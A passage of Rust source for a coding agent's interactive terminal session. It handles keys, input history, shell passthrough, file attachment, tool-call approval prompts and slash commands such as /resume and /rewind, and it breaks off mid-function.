//! The interactive session: `agent` with no prompt on a terminal.
//!
//! One task owns the terminal ([`render::tui`]): it draws the answers, the tool calls (each
//! updated in place while the batch runs), the spinner, questions, the input line and a
//! status line under it, from one queue, so nothing interleaves; and it reads the keys (raw
//! mode). The input history is kept in `~/.local/share/agent/history`. Keys:
//!
//! - Enter sends the line; `\` then Enter starts a new line instead; a paste is inserted as
//!   it is. A line entered while a turn runs is queued and sent when the turn ends.
//! - Ctrl-C (or Esc) during a turn aborts it (the history stays valid; the next prompt
//!   continues the session); a second Ctrl-C before the turn has wound down exits with code
//!   130, and one at the empty prompt right after exits with code 0.
//! - Ctrl-C at the prompt clears the line; on an empty line it asks for a second one to exit.
//! - Ctrl-D on an empty line exits (code 0).
//! - Ctrl-O shows the current turn in full (every tool input and result), and later calls
//!   too, until pressed again.
//! - Up and Down walk the history, Ctrl-R searches it; the usual editing keys
//!   (Ctrl-A/E/U/K/W, Alt-B/F) work; Shift+Tab switches the permission mode.
//! - `!command` runs a command; `@path` attaches a file (Tab completes it).
//!
//! Commands: `/help`, `/clear` (start a new session), `/rewind`, `/resume`, `/mcp`, `/exit`
//! (or `/quit`), and the custom commands and skills.
//!
//! Calls that need approval (Bash in the default mode, edits outside acceptEdits) are asked
//! in the live region, under the text that came before the call: `y` and Enter runs it, `a`
//! runs it and every later call with the same label this session, anything else refuses it
//! and the model is told so. Keys typed before the question appeared go to the input line,
//! never to the question.

use std::io::{BufRead as _, Write as _};
use std::os::fd::AsFd as _;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::Context as _;
use executor::{PermissionDecision, PermissionFuture};
use render::tui::{self, ReadOutcome};
use tools::{PermissionRequest, Prompter};

use crate::args::OutputFormat;
use crate::interrupts::Interrupts;
use crate::output::{self, Renderer, Status, tool_label};
use crate::slash;
use render::printable;
use session::approvals::{RuleFile, RuleScope};
use session::cost::Totals;
use session::slash::{Input, nearest};
use session::trust::TrustAnswer;
use session::{Session, checkpoints};

const KEYS: &str = "\
Type a task and press Enter (Shift+Enter, Alt+Enter or \\ then Enter: a new line).
  !command      run a command as in your own shell (see sandbox.userCommands); its output goes with your next prompt
  @path         attach a file (Tab completes the path)
While the agent works:
  Ctrl-C, Esc   abort the turn (a second Ctrl-C exits)
  Enter         queue the line typed: it goes with the next request
  Shift+Tab     next permission mode: default, acceptEdits, plan
  Alt+T         thinking on or off for the next prompts (/effort: how hard the model works)
  Ctrl-O        the turn in full: every tool input and result (again: the summary)
At the prompt:
  Ctrl-C        clear the line (a second one within a second on an empty line: exit)
  Ctrl-D        exit
  Up, Down      the prompts typed before; Ctrl-R searches them
  Esc Esc       rewind: the turns, what each changed, and what to restore (/rewind)
Commands:";

/// `/help`: the keys, the built-in commands, then the custom commands and skills.
fn help(session: &Session) -> String {
    let mut text = KEYS.to_owned();
    for (name, about) in session::slash::entries(session.commands(), session.skills()) {
        text.push_str(&format!("\n  /{name:<12} {about}"));
    }
    text
}

/// What a `!command` printed, for the screen: its lines under `⎿` (the last 20, with a
/// count of the rest), in red when it failed; the model gets it whole with the next prompt.
fn command_output(output: &str, failed: bool) -> String {
    const LIMIT: usize = 20;
    let text = printable(output.trim_end(), true);
    let lines: Vec<&str> = text.lines().collect();
    if lines.is_empty() {
        return "  ⎿  (no output)".to_owned();
    }
    let skip = lines.len().saturating_sub(LIMIT);
    let mut shown = Vec::new();
    if skip > 0 {
        shown.push(format!("  ⎿  \x1b[2m… {skip} earlier lines\x1b[0m"));
    }
    for (index, line) in lines[skip..].iter().enumerate() {
        let lead = if index == 0 && skip == 0 {
            "  ⎿  "
        } else {
            "     "
        };
        if failed {
            shown.push(format!("{lead}\x1b[31m{line}\x1b[0m"));
        } else {
            shown.push(format!("{lead}{line}"));
        }
    }
    shown.join("\n")
}

/// Tab after `@partial`: the entries of the folder `partial` names (relative to `cwd`)
/// whose names start with its last part, folders with a `/`; hidden ones only when asked
/// for with a leading `.`; sorted, at most 100.
fn complete_path(cwd: &Path, partial: &str) -> Vec<String> {
    let (folder, start) = match partial.rfind('/') {
        Some(at) => (&partial[..=at], &partial[at + 1..]),
        None => ("", partial),
    };
    let Ok(entries) = std::fs::read_dir(cwd.join(folder)) else {
        return Vec::new();
    };
    let mut found: Vec<String> = entries
        .flatten()
        .filter_map(|entry| {
            let name = entry.file_name().into_string().ok()?;
            if !name.starts_with(start) || (name.starts_with('.') && !start.starts_with('.')) {
                return None;
            }
            let folder_mark = if entry.file_type().ok()?.is_dir() {
                "/"
            } else {
                ""
            };
            Some(format!("{folder}{name}{folder_mark}"))
        })
        .collect();
    found.sort();
    found.truncate(100);
    found
}

/// The status line under the input: the session's model and mode, and `totals`.
fn show_status(ui: &tui::Handle, totals: &Totals, session: &Session) {
    ui.set_status(
        printable(session.model(), false),
        session.mode_name().to_owned(),
        totals.figures(session.autocompact_at()),
    );
}

/// How soon a second Ctrl-C at an empty prompt must follow the first to exit.
const EXIT_WINDOW: std::time::Duration = std::time::Duration::from_secs(1);

/// How many prompts the history file keeps.
const HISTORY_LIMIT: usize = 1000;
/// The history file of the input line.
fn history_file() -> Option<PathBuf> {
    dirs::data_dir().map(|dir| dir.join("agent").join("history"))
}

/// [`say`] with `format!` arguments.
macro_rules! say_fmt {
    ($ui:expr, $($arg:tt)*) => {
        say($ui, &format!($($arg)*))
    };
}

/// Writes `text` (lines already safe to print) into the scrollback.
fn say(ui: &tui::Handle, text: &str) {
    ui.commit(
        text.trim_end_matches('\n')
            .lines()
            .map(str::to_owned)
            .collect(),
    );
}

/// Runs the interactive session; returns the exit code.
///
/// # Errors
///
/// When the terminal cannot be used, or a turn cannot start (the transcript cannot be
/// created).
pub async fn run(
    mut session: Session,
    interrupts: &Interrupts,
    status: Status,
    prompter: Option<Arc<TerminalPrompter>>,
    first: Option<String>,
) -> anyhow::Result<u8> {
    let history_path = history_file();
    let history = history_path
        .as_deref()
        .map(|path| render::editor::load_history(path, HISTORY_LIMIT))
        .unwrap_or_default();
    if let Some(prompter) = &prompter {
        prompter.set_rule_files(session::approvals::rule_files(
            session.cwd(),
            session.trusted(),
        ));
        prompter.set_stop(Arc::new(interrupts.key_handler()));
    }
    let gate = session.permission_gate();
    let thinking = session.thinking_switch();
    let cwd = session.cwd().to_path_buf();
    let terminal = tui::Tui::start(tui::Config {
        history,
        on_interrupt: Box::new(interrupts.key_handler()),
        on_cycle_mode: Box::new(move || session::cycle_mode(&gate).as_str().to_owned()),
        on_toggle_thinking: Box::new(move || session::effort::toggle(&thinking)),
        complete_path: Box::new(move |partial| complete_path(&cwd, partial)),
        notify: session.notification_channel(),
        theme: session.theme(),
        commands: session::slash::entries(session.commands(), session.skills()),
    })
    .context("taking the terminal")?;
    let ui = terminal.handle();
    follow_tasks(&session, &ui);
    status.attach(ui.clone());
    status.set_todo_list(session.todo_list());
    let queue = ui.clone();
    session.set_steering(Arc::new(move || queue.take_queued()));
    let code = session_loop(&mut session, interrupts, &status, &ui, first).await;
    session.end(session::EndReason::PromptInputExit).await;
    status.detach();
    let history = terminal.stop().await;
    if let Some(path) = &history_path {
        if let Some(parent) = path.parent() {
            let _ = session::transcript::private_dir(parent);
        }
        if let Err(error) = render::editor::save_history(path, &history, HISTORY_LIMIT) {
            eprintln!(
                "agent: saving the prompt history to {}: {error}",
                path.display()
            );
        }
        // What the user typed is theirs alone.
        {
            use std::os::unix::fs::PermissionsExt as _;
            let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600));
        }
    }
    let code = code?;
    if session.has_transcript() {
        eprintln!(
            "Session {id} saved; `agent --resume {id}` resumes it.",
            id = session.session_id()
        );
    }
    Ok(code)
}

/// The prompts and turns, until the user exits.
async fn session_loop(
    session: &mut Session,
    interrupts: &Interrupts,
    status: &Status,
    ui: &tui::Handle,
    first: Option<String>,
) -> anyhow::Result<u8> {
    // A resumed session's figures go on from its transcript.
    let totals = session::sessions::totals(session.transcript_path());
    let mut repl = Repl {
        session,
        interrupts,
        status,
        ui,
        started: std::time::Instant::now(),
        exit_pending: None,
        totals,
    };
    repl.greet();
    repl.refresh_status_line();
    // `agent "task"`: the first prompt is given, as if typed.
    let mut first = first;
    loop {
        // The task list as the history now has it (a turn, a resume, a rewind, /clear).
        status.show_checklist();
        let (line, pasted) = match first.take() {
            Some(line) => {
                say(ui, &format!("› {}", printable(&line, false)));
                (line, false)
            }
            None => {
                // A minute at the prompt: the Notification hooks hear the agent waits.
                let (after, idle) = repl.session.idle_notifier();
                let outcome = {
                    let read = repl.read();
                    tokio::pin!(read);
                    tokio::select! {
                        outcome = &mut read => outcome,
                        () = tokio::time::sleep(after) => {
                            idle();
                            read.await
                        }
                    }
                };
                match outcome {
                    Read::Line(line, pasted) => (line, pasted),
                    Read::Again => continue,
                    Read::Exit => return Ok(0),
                    Read::Woken => {
                        let arrived = repl.session.take_arrivals();
                        if arrived.is_empty() {
                            continue;
                        }
                        say(
                            ui,
                            "\x1b[2m  ⎿  a background task reported: the model is told\x1b[0m",
                        );
                        let prompt = session::Invocation::task(arrived.join("\n\n"));
                        if let Some(code) = repl.turn(prompt).await? {
                            return Ok(code);
                        }
                        continue;
                    }
                }
            }
        };
        repl.exit_pending = None;
        if let Some(code) = repl.handle(&line, pasted).await? {
            return Ok(code);
        }
        repl.refresh_status_line();
    }
}

/// The status line counts the running background tasks; what arrives for the model at the
/// prompt (a task that ended, a hook's late feedback) wakes it for a turn.
fn follow_tasks(session: &Session, ui: &tui::Handle) {
    let (waker, counter) = (ui.clone(), ui.clone());
    session.on_arrival(move || waker.wake());
    let running = std::sync::atomic::AtomicUsize::new(0);
    session.background().listen(move |event| {
        let now = match event {
            tools::background::TaskEvent::Started(_) => running.fetch_add(1, Ordering::Relaxed) + 1,
            tools::background::TaskEvent::Ended(..) => {
                running.fetch_sub(1, Ordering::Relaxed).saturating_sub(1)
            }
            tools::background::TaskEvent::Event(_) => return,
        };
        counter.set_running_tasks(now);
    });
}

/// What reading the next line gave.
enum Read {
    /// A line, and whether it starts with pasted text.
    Line(String, bool),
    /// Nothing to do: read again.
    Again,
    /// Something arrived for the model (a background task ended): a turn tells it.
    Woken,
    /// End the session.
    Exit,
}

/// The interactive session between two prompts: the session, the terminal, and what the
/// status line counts.
struct Repl<'a> {
    session: &'a mut Session,
    interrupts: &'a Interrupts,
    status: &'a Status,
    ui: &'a tui::Handle,
    started: std::time::Instant,
    /// When the last Ctrl-C that counts as a first of two was pressed.
    exit_pending: Option<std::time::Instant>,
    totals: Totals,
}

impl Repl<'_> {
    /// The first lines: version, model, folder, mode, sandbox, the session, and a resumed
    /// conversation condensed.
    fn greet(&self) {
        let session = &*self.session;
        say(
            self.ui,
            &format!(
                "agent {} · {} · {} · {} mode · sandbox {}\n{}\nType /help for the keys and commands.",
                env!("CARGO_PKG_VERSION"),
                printable(session.model(), false),
                printable(&session.cwd().to_string_lossy(), false),
                session.mode_name(),
                session.sandbox().describe(),
                // A resumed session rewound to its start has no messages, and is still resumed.
                if session.history().is_empty() && !session.has_transcript() {
                    format!("New session {}", session.session_id())
                } else {
                    format!(
                        "Resumed session {} ({} messages)",
                        session.session_id(),
                        session.history().len()
                    )
                },
            ),
        );
        say(self.ui, &condensed(session.history()));
        self.show_status();
    }

    fn show_status(&self) {
        show_status(self.ui, &self.totals, self.session);
    }

    /// Starts the settings' `statusLine` command, whose rows then show in place of the
    /// status line (at the start, after each turn and each command; the last rows stay while
    /// it fails).
    fn refresh_status_line(&self) {
        let counted = self
            .totals
            .status_json(self.session.context_window(), self.started);
        if let Some(job) = self.session.status_line(counted) {
            // Beside the prompt: a slow command must not hold it up.
            let ui = self.ui.clone();
            tokio::spawn(async move {
                if let Some(rows) = job.await {
                    ui.set_custom_status(Some(rows));
                }
            });
        }
    }

    fn say(&self, text: &str) {
        say(self.ui, text);
    }

    /// Reads a line. Ctrl-C twice within a second on an empty line exits; a line typed (and
    /// cleared) in between starts over.
    async fn read(&mut self) -> Read {
        match self.ui.read_line().await {
            ReadOutcome::Line(line) => Read::Line(line, false),
            ReadOutcome::Pasted(line) => Read::Line(line, true),
            ReadOutcome::Interrupted => {
                if self
                    .exit_pending
                    .is_some_and(|at| at.elapsed() <= EXIT_WINDOW)
                {
                    return Read::Exit;
                }
                self.say("\x1b[2m(Ctrl-C again within a second, or Ctrl-D, to exit)\x1b[0m");
                self.exit_pending = Some(std::time::Instant::now());
                Read::Again
            }
            ReadOutcome::Cleared => {
                self.exit_pending = None;
                Read::Again
            }
            ReadOutcome::Eof => Read::Exit,
            ReadOutcome::Woken => Read::Woken,
        }
    }

    /// Does what `line` asks; `Some(code)` ends the session with that exit code.
    async fn handle(&mut self, line: &str, pasted: bool) -> anyhow::Result<Option<u8>> {
        let session = &mut *self.session;
        // A custom command (`/frontend:lint src`) becomes its prompt; built-ins come first.
        let input = match (session::slash::parse(line), session.expand_command(line)) {
            // A line that starts with pasted text is never a command: a pasted `!rm …` or
            // `/clear` is text for the model.
            _ if pasted => match line.trim() {
                "" => Input::Nothing,
                text => Input::Task(text.to_owned()),
            },
            (Input::Unknown(_) | Input::Task(_), Some(invocation)) => Input::Invoke(invocation),
            (input, _) => input,
        };
        match input {
            Input::Nothing => {}
            Input::Help => self.say(&help(self.session)),
            Input::Cost => self.say(&self.totals.report(self.started.elapsed())),
            Input::Status => self.say(&self.session.status_report()),
            Input::Context => self.say(&slash::context_report(
                self.totals.context,
                &self.session.levels(),
            )),
            Input::Permissions => {
                let always = self.session.permission_gate().session_rules();
                self.say(&slash::permissions_report(
                    self.session.mode_name(),
                    self.session.rules(),
                    &always,
                ));
            }
            Input::Model(name) => self.model(name),
            Input::Effort(None) => {
                let report = self.session.effort_report();
                self.say(&report);
            }
            Input::Effort(Some(level)) => {
                let told = match level.trim() {
                    "auto" | "default" => self.session.set_effort(None),
                    name => match protocol::Effort::from_name(name) {
                        Some(effort) => self.session.set_effort(Some(effort)),
                        None => format!(
                            "/effort {}: not a level ({}, or auto for the model's own)",
                            printable(name, false),
                            session::effort::LEVELS
                        ),
                    },
                };
                self.say(&told);
            }
            Input::Compact(focus) => self.compact(focus).await,
            Input::Agents => self.say(&slash::agents_report(self.session.agents())),
            Input::Tasks(None) => {
                self.say(&session::slash::tasks_report(self.session.background()))
            }
            Input::Tasks(Some(id)) => {
                let told = session::slash::task_command(self.session.background(), &id).await;
                self.say(&told);
            }
            Input::Todos => {
                let todos = self.session.todos();
                if todos.is_empty() {
                    self.say("No task list: the model has not made one in this session.");
                } else {
                    let mut lines = vec!["The model's task list:".to_owned()];
                    lines.extend(output::checklist(&todos, false));
                    self.ui.commit(lines);
                }
            }
            Input::Mcp => {
                self.session.join_mcp_tools();
                self.say(&self.session.mcp_report());
            }
            Input::Exit => return Ok(Some(0)),
            Input::Shell(command) => self.shell(&command).await,
            Input::Rewind(arguments) => rewind(self.session, self.ui, &arguments),
            Input::Resume => self.resume()?,
            Input::Unknown(command) => self.unknown(&command),
            Input::Clear => self.clear().await,
            Input::Task(task) => {
                for (placeholder, path) in self.ui.take_images(&task) {
                    let note = self.session.attach_image_file(&placeholder, &path);
                    self.say(&format!("\x1b[2m  ⎿  {}\x1b[0m", printable(&note, false)));
                }
                for note in self.session.attach_mentions(&task).await {
                    self.say(&format!("\x1b[2m  ⎿  {}\x1b[0m", printable(&note, false)));
                }
                return self.turn(session::Invocation::task(task)).await;
            }
            Input::Invoke(invocation) => return self.turn(invocation).await,
            Input::Init => {
                return self
                    .turn(session::Invocation::task(session::slash::init_prompt(
                        self.session.cwd(),
                    )))
                    .await;
            }
        }
        Ok(None)
    }

    /// `/model [name]`: a switch for the next requests; without a name, the picker of the
    /// models this session can use (the one in use chosen first).
    fn model(&mut self, name: Option<String>) {
        let Some(name) = name.or_else(|| self.pick_model()) else {
            return self.say(&format!(
                "Model: {} (unchanged). `/model NAME` switches to any model id.",
                printable(self.session.model(), false)
            ));
        };
        match self.session.set_model(&name) {
            Ok(id) => {
                self.say(&format!(
                    "Model: {} from the next request on.",
                    printable(&id, false)
                ));
                self.show_status();
            }
            Err(error) => self.say(&format!(
                "agent: /model: {}",
                printable(&format!("{error:#}"), false)
            )),
        }
    }

    /// The model picked from [`Session::model_choices`], or `None` (Esc).
    fn pick_model(&self) -> Option<String> {
        let choices = self.session.model_choices();
        let current = self.session.model();
        let initial = choices
            .iter()
            .position(|(name, id, _)| id == current || name == current)
            .unwrap_or(0);
        let items = choices
            .iter()
            .map(|(name, id, what)| render::picker::Item {
                label: name.clone(),
                detail: if id == name {
                    (*what).to_owned()
                } else {
                    format!("{id} · {what}")
                },
                preview: if id == current {
                    vec!["in use now".to_owned()]
                } else {
                    Vec::new()
                },
            })
            .collect();
        let picker = render::picker::Picker::new("Choose a model", items, initial);
        let ui = self.ui;
        let chosen = tokio::task::block_in_place(|| ui.pick_blocking(picker))?;
        choices.into_iter().nth(chosen).map(|(name, _, _)| name)
    }

    /// `/compact [focus]`.
    async fn compact(&mut self, focus: Option<String>) {
        self.ui
            .set_activity(Some("Compacting the conversation…".to_owned()));
        self.ui.set_busy(true);
        let cancel = self.interrupts.arm();
        let compacted = self.session.compact(focus, &cancel).await;
        self.interrupts.disarm();
        self.ui.set_busy(false);
        self.ui.set_activity(None);
        match compacted {
            Ok((before, after)) => {
                self.totals.context = Some(after);
                self.say(&format!(
                    "\x1b[2m  ⋯ compacted: {} → {} tokens (the earlier conversation is summarized; Ctrl-O is not needed to see it, /context shows the room)\x1b[0m",
                    session::cost::compact_count(before),
                    session::cost::compact_count(after)
                ));
                self.show_status();
            }
            Err(error) => self.say(&format!(
                "agent: /compact: {}",
                printable(&format!("{error:#}"), false)
            )),
        }
    }

    /// `!command`: runs it as the user's own.
    async fn shell(&mut self, command: &str) {
        self.ui
            .set_activity(Some(format!("Running !{}", printable(command, false))));
        self.ui.set_busy(true);
        let cancel = self.interrupts.arm();
        let ran = self.session.run_user_command(command, &cancel).await;
        self.interrupts.disarm();
        self.ui.set_busy(false);
        self.ui.set_activity(None);
        match ran {
            Ok((output, failed)) => self.say(&command_output(&output, failed)),
            Err(error) => self.say(&format!(
                "agent: !{}: {}",
                printable(command, false),
                printable(&format!("{error:#}"), false)
            )),
        }
    }

    /// `/resume`: picks an earlier session of this folder (the picker: arrows, filter,
    /// preview) and switches to it.
    fn resume(&mut self) -> anyhow::Result<()> {
        let sessions = session::transcript::project_dir(self.session.cwd())?;
        let Some((picker, paths)) =
            crate::sessions_cmd::picker(&sessions, Some(self.session.session_id()))
        else {
            self.say("No earlier sessions in this folder.");
            return Ok(());
        };
        let ui = self.ui;
        let chosen = tokio::task::block_in_place(|| ui.pick_blocking(picker));
        let Some(path) = chosen.and_then(|index| paths.get(index)) else {
            self.say("(no session chosen)");
            return Ok(());
        };
        match self.session.switch_to(path) {
            Ok(()) => {
                self.say(&format!(
                    "Resumed session {} ({} messages)",
                    self.session.session_id(),
                    self.session.history().len()
                ));
                self.say(&condensed(self.session.history()));
            }
            Err(error) => self.say(&format!(
                "agent: /resume: {}",
                printable(&format!("{error:#}"), false)
            )),
        }
        Ok(())
    }

    /// `/something` that is no command: the nearest one, if any.
    fn unknown(&self, command: &str) {
        let others = self
            .session
            .commands()
            .iter()
            .map(|command| command.name.as_str())
            .chain(
                self.session
                    .skills()
                    .iter()
                    .map(|skill| skill.name.as_str()),
            );
        let hint = match nearest(command, others) {
            Some(name) => format!("did you mean /{}? ", printable(&name, false)),
            None => String::new(),
        };
        self.say(&format!(
            "agent: unknown command /{}; {hint}/help lists the commands",
            printable(command, false)
        ));
    }

    /// `/clear`: a new session; the old one stays resumable.
    async fn clear(&mut self) {
        let old = self.session.session_id().to_owned();
        let had_file = self.session.has_transcript();
        self.session.end(session::EndReason::Clear).await;
        self.session.clear();
        self.session.start_hooks("clear").await;
        self.ui.clear_screen();
        // The status line counts the new session.
        self.totals = Totals::default();
        self.show_status();
        if had_file {
            self.say(&format!(
                "Started session {} (the previous one can be resumed with --resume {old})",
                self.session.session_id()
            ));
        } else {
            self.say(&format!("Started session {}", self.session.session_id()));
        }
    }

    /// Runs one turn, live; `Some(code)` when a signal ended the session meanwhile.
    async fn turn(&mut self, invocation: session::Invocation) -> anyhow::Result<Option<u8>> {
        let session = &mut *self.session;
        let mut renderer =
            Renderer::new(
                OutputFormat::Text,
                session.session_id(),
                session.model(),
                true,
            )
            .with_status(self.status.clone())
            .with_markdown(true)
            .with_prices(session.price_overrides())
            .with_live_totals(self.totals.clone(), session.autocompact_at())
            .with_status_line(session.status_line_command().map(|line| {
                session::StatusFollower::new(line, session.context_window(), self.started)
            }));
        let cancel = self.interrupts.arm();
        self.ui.set_busy(true);
        let outcome = session.invoke(invocation, &mut renderer, cancel).await;
        self.ui.set_busy(false);
        self.interrupts.disarm();
        self.status.hide();
        self.status.set_turn_rows(Vec::new());
        let outcome = match outcome {
            Ok(outcome) => outcome,
            Err(error) if error.downcast_ref::<session::PromptBlocked>().is_some() => {
                self.say(&format!("agent: {}", printable(&error.to_string(), false)));
                return Ok(None);
            }
            Err(error) => {
                // The session goes on: the next prompt may work (a full disk freed).
                self.say(&format!(
                    "agent: the turn failed: {}",
                    printable(&format!("{error:#}"), false)
                ));
                return Ok(None);
            }
        };
        renderer.finish_interactive(&outcome);
        // A blank row between a turn and the next prompt.
        self.ui.commit(vec![String::new()]);
        let usage = renderer.total_usage(&outcome);
        self.totals.add(&usage, renderer.cost());
        self.totals.requests += u64::from(outcome.turns);
        if let Some(tokens) = renderer.context_tokens() {
            self.totals.context = Some(tokens);
        }
        self.totals.first_token_ms = renderer.first_token_ms().or(self.totals.first_token_ms);
        self.show_status();
        if self.interrupts.quit_requested() {
            // SIGTERM or SIGHUP (the terminal closed): the turn was aborted, the session
            // ends.
            return Ok(Some(self.interrupts.aborted_exit_code()));
        }
        if output::exit_code(&outcome.terminal).0 == 130 {
            // The Ctrl-C that stopped the turn counts as the first of two.
            self.say(
                "\x1b[2m  (interrupted; the session goes on: type the next task, or Ctrl-C again within a second to exit)\x1b[0m",
            );
            self.exit_pending = Some(std::time::Instant::now());
        }
        Ok(None)
    }
}

/// A resumed conversation, condensed for the screen: each prompt of the user (`›`), one
/// line per tool call (`⏺`), and the first lines of each turn's final answer; dim.
fn condensed(history: &[protocol::MessageParam]) -> String {
    use protocol::{ContentBlock, Role};
    const ANSWER_LINES: usize = 3;
    let cut = |text: &str, max: usize| {
        let line = text
            .lines()
            .find(|line| !line.trim().is_empty())
            .unwrap_or("");
        let shown: String = line.chars().take(max).collect();
        let more = line.chars().count() > max || text.trim().lines().count() > 1;
        format!(
            "{}{}",
            printable(&shown, false),
            if more { "…" } else { "" }
        )
    };
    let mut lines: Vec<String> = Vec::new();
    // The text of the last assistant message seen since the last prompt: the turn's answer.
    let mut answer: Option<String> = None;
    let flush = |answer: &mut Option<String>, lines: &mut Vec<String>| {
        if let Some(text) = answer.take() {
            // As it was shown: Markdown rendered (no `##` or `**`), without its colours.
            let rendered: Vec<String> = render::render_markdown(&text, 110)
                .iter()
                .map(|line| render::term::strip_styles(line).trim_end().to_owned())
                .collect();
            let all: Vec<&String> = rendered
                .iter()
                .filter(|line| !line.trim().is_empty())
                .collect();
            for line in all.iter().take(ANSWER_LINES) {
                lines.push(format!("  {}", line.chars().take(110).collect::<String>()));
            }
            if all.len() > ANSWER_LINES {
                lines.push(format!("  … +{} lines", all.len() - ANSWER_LINES));
            }
        }
    };
    for message in history {
        match message.role {
            Role::User => {
                let texts = message.content.iter().filter_map(ContentBlock::as_text);
                if texts
                    .clone()
                    .any(|text| text.starts_with(context::BOUNDARY_MARKER))
                {
                    lines.push("⋯ the conversation before was summarized".to_owned());
                }
                let prompt: Vec<String> = texts.filter_map(session::sessions::typed).collect();
                if !prompt.is_empty() {
                    flush(&mut answer, &mut lines);
                    lines.push(format!("› {}", cut(&prompt.join(" "), 110)));
                }
            }
            Role::Assistant => {
                for block in &message.content {
                    match block {
                        ContentBlock::ToolUse(call) => {
                            answer = None;
                            lines.push(format!("⏺ {}", tool_label(&call.name, &call.input)));
                        }
                        ContentBlock::Text(text) if !text.text.trim().is_empty() => {
                            answer = Some(text.text.clone());
                        }
                        _ => {}
                    }
                }
            }
        }
    }
    flush(&mut answer, &mut lines);
    if lines.is_empty() {
        return String::new();
    }
    // Dim line by line: each row of the scrollback ends its own styles.
    let mut text = String::new();
    for line in &lines {
        text.push_str(&format!("\x1b[2m{line}\x1b[0m\n"));
    }
    text
}

/// Asks `question` in the live region and waits for the line typed after it, trimmed;
/// `None` for Ctrl-C or Ctrl-D. Blocking: call it from blocking code (or `block_in_place`).
pub fn ask_line(ui: &tui::Handle, question: &str) -> Option<String> {
    tokio::task::block_in_place(|| ui.ask_blocking(Vec::new(), question.to_owned()))
        .map(|answer| answer.trim().to_owned())
}

/// `/rewind` without arguments (or Esc Esc): a picker of the turns (the start of the
/// session, each turn with its prompt, time and changed files, the last rewind's undo), then
/// one of what to restore; the choices pushed onto `words` as if typed. `false` when the
/// user chose nothing.
fn ask_rewind(
    ui: &tui::Handle,
    timeline: &checkpoints::Timeline,
    cwd: &Path,
    words: &mut Vec<String>,
) -> bool {
    use render::picker::{Item, Picker};
    let mut items = vec![Item {
        label: "(the start of the session)".to_owned(),
        detail: "before turn 1".to_owned(),
        preview: Vec::new(),
    }];
    let mut targets = vec!["0".to_owned()];
    for turn in &timeline.turns {
        let prompt = turn.prompt.split_whitespace().collect::<Vec<_>>().join(" ");
        let files = checkpoints::turn_files(turn, cwd);
        items.push(Item {
            label: prompt.chars().take(60).collect(),
            detail: format!(
                "turn {} · {} · {}",
                turn.number,
                session::transcript::short_time(&turn.started),
                match files.len() {
                    0 => "no file changes".to_owned(),
                    1 => "1 file".to_owned(),
                    count => format!("{count} files"),
                }
            ),
            preview: files,
        });
        targets.push(turn.number.to_string());
    }
    if !timeline.rewinds.is_empty() {
        items.push(Item {
            label: "(undo the last rewind)".to_owned(),
            detail: "what it restored is put back".to_owned(),
            preview: Vec::new(),
        });
        targets.push("undo".to_owned());
    }
    let last_turn = timeline.turns.len();
    let picker = Picker::new("Rewind to the end of which turn?", items, last_turn);
    let chosen = tokio::task::block_in_place(|| ui.pick_blocking(picker));
    let Some(target) = chosen.and_then(|index| targets.get(index)) else {
        say(ui, "(nothing rewound)");
        return false;
    };
    words.push(target.clone());
    if words[0] != "undo" {
        let scopes = [
            (
                "Code and conversation",
                "the files and the messages",
                "both",
            ),
            (
                "Conversation only",
                "the files stay as they are",
                "conversation",
            ),
            ("Code only", "the conversation goes on from here", "code"),
        ];
        let items = scopes
            .iter()
            .map(|(label, detail, _)| Item {
                label: (*label).to_owned(),
                detail: (*detail).to_owned(),
                preview: Vec::new(),
            })
            .collect();
        let picker = Picker::new("Restore what?", items, 0);
        let chosen = tokio::task::block_in_place(|| ui.pick_blocking(picker));
        let Some((_, _, word)) = chosen.and_then(|index| scopes.get(index)) else {
            say(ui, "(nothing rewound)");
            return false;
        };
        words.push((*word).to_owned());
    }
    true
}

/// What a rewind restores, from the word after the target (`None` word: both, or for an
/// undo what the rewind it undoes restored). The outer `None`: a word that says nothing
/// known (reported).
fn rewind_scope(
    ui: &tui::Handle,
    target: checkpoints::Target,
    word: Option<&String>,
) -> Option<Option<checkpoints::Scope>> {
    use checkpoints::{Scope, Target};
    Some(match word.map(|word| word.to_ascii_lowercase()) {
        None if target == Target::UndoLast => None,
        None => Some(Scope::BOTH),
        Some(word) => match word.as_str() {
            "" | "b" | "both" => Some(Scope::BOTH),
            "c" | "code" => Some(Scope {
                code: true,
                conversation: false,
            }),
            "o" | "conversation" => Some(Scope {
                code: false,
                conversation: true,
            }),
            other => {
                say_fmt!(
                    ui,
                    "agent: /rewind: {:?}: say code, conversation or both",
                    printable(other, false)
                );
                return None;
            }
        },
    })
}

/// `/rewind [N [code|conversation|both] | undo]`: without arguments, lists the turns and asks
/// for one and what to restore; files changed since the session's last change to them are
/// overwritten only after a yes naming them.
fn rewind(session: &mut Session, ui: &tui::Handle, arguments: &str) {
    use checkpoints::Target;
    let timeline = match session.timeline() {
        Ok(Some(timeline)) => timeline,
        Ok(None) => {
            say(ui, "Nothing to rewind yet: this session has no turns.");
            return;
        }
        Err(error) => {
            say_fmt!(
                ui,
                "agent: /rewind: {}",
                printable(&format!("{error:#}"), false)
            );
            return;
        }
    };
    let mut words: Vec<String> = arguments.split_whitespace().map(str::to_owned).collect();
    if words.is_empty() && !ask_rewind(ui, &timeline, session.cwd(), &mut words) {
        return;
    }
    let target = match words[0].as_str() {
        "undo" => Target::UndoLast,
        number => match number.parse::<u64>() {
            Ok(turn) => Target::Turn(turn),
            Err(_) => {
                say_fmt!(
                    ui,
                    "agent: /rewind: {:?} is not a turn number (or `undo`)",
                    printable(number, false)
                );
                return;
            }
        },
    };
    let Some(scope) = rewind_scope(ui, target, words.get(1)) else {
        return;
    };
    let cwd = session.cwd().to_path_buf();
    let mut overwrite = |conflicts: &[&checkpoints::FilePlan]| {
        say(
            ui,
            "These files changed since the session last changed them (by you, a formatter or a command):",
        );
        for plan in conflicts {
            say_fmt!(
                ui,
                "    {}",
                printable(
                    &plan
                        .path
                        .strip_prefix(&cwd)
                        .unwrap_or(&plan.path)
                        .display()
                        .to_string(),
                    false
                )
            );
        }
        let answer = ask_line(
            ui,
            "Overwrite them with their content of then? [y]es / [n]o, leave them: ",
        )
        .unwrap_or_default();
        if matches!(answer.to_ascii_lowercase().as_str(), "y" | "yes") {
            checkpoints::Decision::Overwrite
        } else {
            checkpoints::Decision::Leave
        }
    };
    match session.rewind(target, scope, &mut overwrite) {
        Ok(report) => say(ui, &checkpoints::summarize(&report, &cwd)),
        Err(error) => say_fmt!(
            ui,
